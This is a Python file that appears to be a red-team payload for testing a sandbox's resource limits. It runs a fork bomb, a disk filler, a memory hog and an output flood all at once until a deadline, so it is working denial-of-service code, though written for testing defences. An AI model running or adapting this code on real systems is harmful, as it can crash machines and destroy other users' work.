"""The Python payload: escape exhaust-bounds."""

import os
import time

from farmd.intake.escapes.given import LEFT_FILE, NONCE
from farmd.intake.escapes.python.prelude import END, guard, left, say

# -- the payload: the box is given this file from the line below on --

def flood(until):
    chunk = (('farm-redteam %s PASSED\n' % NONCE) * 2048).encode()[:65536]
    while time.monotonic() < until:
        for fd in (1, 2):
            os.write(fd, chunk)


def fill(until):
    for path in (os.path.join('/tmp', LEFT_FILE + '.fill'), LEFT_FILE + '.fill', os.path.join('/dev/shm', LEFT_FILE)):
        try:
            with open(path, 'wb') as fh:
                while time.monotonic() < until:
                    fh.write(b'x' * (1 << 20))
                    fh.flush()
        except OSError as exc:
            say('filled', path, type(exc).__name__)


def bomb(until):
    # Every child forks on too, until the deadline.
    kids = 0
    while time.monotonic() < until:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.002)
            continue
        if pid == 0:
            try:
                bomb(until)
            finally:
                os._exit(0)
        kids += 1
    return kids


def hog(until):
    held = []
    while time.monotonic() < until:
        held.append(b'\x01' * (16 << 20))
    say('held', 16 * len(held), 'MiB')


def main():
    # All at once, as an attacker would: whichever bound the box meets first ends them all.
    workers = []
    for work in (fill, hog, bomb):
        pid = os.fork()
        if pid == 0:
            try:
                guard(work, END)
            finally:
                os._exit(0)
        workers.append(pid)
    say('started', len(workers))
    guard(flood, END)
    while left() > -0.5:
        try:
            if os.waitpid(-1, os.WNOHANG)[0] == 0:
                time.sleep(0.01)
        except ChildProcessError:
            break
